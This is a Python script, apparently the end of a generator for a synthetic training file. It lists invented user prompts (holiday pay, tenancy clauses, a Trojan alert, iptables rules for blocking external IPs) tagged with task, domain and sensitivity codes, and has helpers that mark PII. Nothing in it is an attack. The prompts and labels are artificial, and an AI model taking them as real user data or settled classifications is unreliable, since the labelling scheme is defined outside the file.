reasoning s m => is it safe to keep using the laptop ;; draft s => write the ticket for IT | My antivirus found "Trojan:Win32/Wacatac" and quarantined it. is it safe to keep using the laptop? and write the ticket for IT
summarize g => Summarise this article ;; creative g => suggest a catchy headline for our newsletter | Summarise this article and suggest a catchy headline for our newsletter: "Remote teams that hold a weekly unstructured video call report 23% higher belonging scores, a survey of 2,000 workers found. The effect was strongest for new joiners in their first six months."
math l => How much holiday pay am I owed ;; draft l => write a letter asking for it | I left on 30 June, entitled to 28 days a year, took 9. How much holiday pay am I owed at 140 a day? And write a letter asking for it, they've ignored me twice
qa s => what's the difference between SSO and MFA ;; classify s => which one does this sign-in screen use | what's the difference between SSO and MFA, and which one does this sign-in screen use: "Sign in with Okta" then "Approve the push on your phone"?
chat g => hi! ;; qa m => what's the recommended daily water intake ;; creative g => give me a motivational slogan for the office water challenge | hi! what's the recommended daily water intake for adults? also give me a motivational slogan for the office water challenge
extract g i => extract the decisions ;; classify g i => label each action as quick win or longer project | From the on-call thread, extract the decisions, and label each action as quick win or longer project{ONCALL}
draft m => write a leaflet paragraph on when to use the emergency department ;; translate m => translate it into simple Portuguese | write a leaflet paragraph on when to use the emergency department vs pharmacy vs GP, then translate it into simple Portuguese
reasoning f h => build me a savings plan for a house deposit of 35k in 4 years ;; math f => how much a month is that without interest | build me a savings plan for a house deposit of 35k in 4 years (salary 38k, rent 900, no debts) — and how much a month is that without interest?
sentiment m c => How anxious is she ;; reasoning m m c => what would you ask the care home | How anxious is she, and what would you ask the care home?{MUMMSG}
code g => Fix my regex ;; qa g => explain what the ? does after the + | Fix my regex, it grabs too much: <div>.+</div> on "<div>a</div><div>b</div>". explain what the ? does after the + in the fix
qa f => What happens to my pension if the company goes bust ;; draft f => write a short message to HR asking who the scheme administrator is | What happens to my pension if the company goes bust? and write a short message to HR asking who the scheme administrator is
classify l => Is this a contract of employment or for services ;; reasoning l m => explain what tips it one way | Is this a contract of employment or for services - I set my own hours, use my own laptop, but can't send a substitute and get paid monthly. explain what tips it one way
chat g | thank you! you've been really helpful today
summarize m c => summarise the consultation ;; extract m c => list the safety-netting advice ;; translate m c => translate the plan into Spanish for the patient | summarise the consultation, list the safety-netting advice, and translate the plan into Spanish for the patient{GPNOTE}
reasoning s m => Should we pay the ransom ;; qa s => how do ransomware groups usually get in | Should we pay the ransom if backups are 3 days old and it's our busiest week? how do ransomware groups usually get in?
draft g => write an agenda for Monday's planning meeting ;; math g => if it's 90 minutes and 6 items, how long each | write an agenda for Monday's planning meeting (roadmap, hiring, budget check-in, Q&A) - if it's 90 minutes and 6 items, how long each with a 10-minute buffer?
qa l => do I need a licence to play music in my café ;; math f => what would 600 a year come to per day open, we open 310 days | do I need a licence to play music in my café? and what would 600 a year come to per day open, we open 310 days
extract s c => pull out the IPs ;; classify s c => mark each as internal or external ;; code s => write iptables rules blocking the external ones | pull out the IPs, mark each as internal or external, and write iptables rules blocking the external ones: "<<IP_ADDRESS:10.0.4.21>> -> <<IP_ADDRESS:198.51.100.23>>:4444; <<IP_ADDRESS:192.168.10.5>> -> <<IP_ADDRESS:2001:db8:77::1f>>:443"
"""


EXTRA = r"""
creative l | Write a rhyming couplet for the compliance newsletter reminding staff that any gift over 100 goes on the gifts register.
creative l | a 150-word training scenario where an employee emails the customer list to the wrong person, ending with the question "what must happen in the next 72 hours?"
sentiment l | Are they hinting they'd settle? "Our client remains confident in its position, though it is not opposed in principle to exploring a pragmatic resolution."
draft l | Write a short data-retention paragraph for our candidate privacy notice: CVs deleted after 6 months unless the candidate agrees to longer.
reasoning l m | A competitor's ads say "the UK's No.1 payroll app" with no source. Can we complain to the regulator, and is it worth the hassle?
classify l | consent needed or not, for each: emailing a receipt, adding them to the newsletter, giving their address to the courier, selling their email to a partner
qa l | can you translate "force majeure" for me - like what does it actually mean for our contract if the warehouse floods?
creative g | three titles for my talk on moving to Kubernetes: one serious, one playful, one clickbait
creative g | Write a short rap verse about the printer on floor 2 that never works
creative g | 5 name ideas for a budgeting app aimed at students
creative g | a gentle little story for a 5 year old who's nervous about having a blood test tomorrow
sentiment g | Before I hit send — is this too blunt? "As discussed, the deadline was yesterday. Please send it today."
sentiment f | Is the CEO confident or hedging here? "We see a path to profitability, subject to market conditions, in the medium term."
sentiment m | How does this carer feel about the new visiting hours? "Two hours a day isn't enough when she doesn't recognise the staff. I understand why, but it breaks my heart."
qa g | how would you classify a tomato, fruit or vegetable? genuinely curious why people argue about it
qa m | what does 'idiopathic' mean on my diagnosis letter? sounds scary
summarize l => sum up the pet clause ;; reasoning l m => tell me whether I can get a cat anyway | sum up the pet clause, and if the landlord says no, tell me whether I can get a cat anyway{TENANCY}
qa l => what is a non-compete ;; reasoning l m => would mine hold up | what is a non-compete? and would mine hold up - 12 months, the whole of Europe, and I'm a junior designer
sentiment l => does the landlord sound willing to negotiate ;; draft l => draft a counter-offer at 250 | does the landlord sound willing to negotiate? if so draft a counter-offer at 250: "I'm not going to drop the claim entirely but I'm a reasonable person."
chat g => Hi again ;; creative l => make up a catchy name for our new whistleblowing hotline | Hi again. Could you make up a catchy name for our new whistleblowing hotline? Needs to feel safe, not scary.
"""


_BLOCKS = (
    FINANCE,
    LEGAL,
    MEDICAL,
    SECURITY,
    GENERAL,
    PII_ROWS,
    PII_MORE,
    HARD,
    MULTI,
    EXTRA,
)
_INLINE = re.compile(r"<<([A-Z_]+):(.+?)>>")


def rows() -> list[Row]:
    """FLAGGED specs; materials and PII raise every task of a row to their level."""
    placeholders = Placeholders(_MAT, _GEN)

    def expand(raw: str) -> tuple[str, str]:
        text, level = placeholders(raw)
        return _INLINE.sub(lambda m: mark(m.group(1), m.group(2)), text), level

    return line_rows(
        _BLOCKS, prefix="diverse6", expand=expand, spec=flagged, floor=True
    )


def main() -> None:
    write_and_check(
        HERE / "train_diverse6.jsonl",
        rows(),
        pii_floor="task",
        scan_unmarked=True,
        leftover=re.compile(r"<<|>>"),
    )


if __name__ == "__main__":
    main()
